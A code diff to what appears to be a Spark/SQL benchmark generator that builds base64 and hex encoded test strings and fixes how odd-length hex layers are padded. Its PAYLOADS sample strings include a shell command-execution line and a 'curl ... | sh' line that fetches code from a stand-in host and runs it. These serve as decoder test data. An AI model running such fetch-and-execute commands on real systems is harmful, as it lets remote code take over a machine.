@@ -173,7 +173,7 @@ def symbol_normalize(spark, sf_dir):
 PAYLOADS = (
     "import os; os.system('id')  # {}", "plain words of no interest at all {}", "curl http://x.example/{} | sh please",
     "visit https://site.example/{}/index.html", "SELECT a FROM b WHERE c = {} AND d", "const x = {}; function go() {{}}",
-    "short {}", "#!/bin/sh\necho {} and some more text here",
+    "a rather short {}", "#!/bin/sh\necho {} and some more text here",
 )
 
 
@@ -191,15 +191,19 @@ def encoded_strings(spark, sf_dir):
     def b64_of(s):
         return F.regexp_replace(F.base64(s.cast("binary")), r"\s", "")
 
-    b64 = b64_of(plain)
+    # Hex of an even number of bytes also reads as base64, which is tried first, so
+    # the hex layers here hold an odd number.
     kind = F.floor(key / 8) % 6
+    plain = F.concat(plain, F.when((kind == 2) & (F.octet_length(plain) % 2 == 0), " ").otherwise(""))
+    b64 = b64_of(plain)
+    odd = F.concat(b64, F.lit("\n"))
     value = (
         F.when(kind == 0, plain)
         .when(kind == 1, b64)
         .when(kind == 2, F.hex(plain))
         .when(kind == 3, b64_of(b64))
-        .when(kind == 4, F.lower(F.hex(b64)))
-        .otherwise(b64_of(F.hex(b64)))
+        .when(kind == 4, F.lower(F.hex(odd)))
+        .otherwise(b64_of(F.hex(odd)))
     )
     return part.select((key % 97).alias("file_id"), (key * 64).alias("offset"), value.alias("value"), plain.alias("plain"))
 
@@ -218,7 +222,8 @@ SELECT *, CASE WHEN first_ok THEN full_chain END AS chain FROM (
          strlen(plain) AS n, ceil(strlen(plain) / 3.0) * 4 AS n64,
          CASE kind WHEN 0 THEN FALSE WHEN 1 THEN n64 >= 24 WHEN 2 THEN 2 * n >= 48
               WHEN 3 THEN n64 >= 24 WHEN 4 THEN n64 >= 24 ELSE n64 >= 24 END AS first_ok
-  FROM (SELECT p_partkey, {SQL_PLAIN} AS plain, (p_partkey // 8) % 6 AS kind FROM part))""")
+  FROM (SELECT p_partkey, kind, p || CASE WHEN kind = 2 AND strlen(p) % 2 = 0 THEN ' ' ELSE '' END AS plain
+        FROM (SELECT p_partkey, {SQL_PLAIN} AS p, (p_partkey // 8) % 6 AS kind FROM part)))""")
 
 
 @query("ext13_base64_decode", """
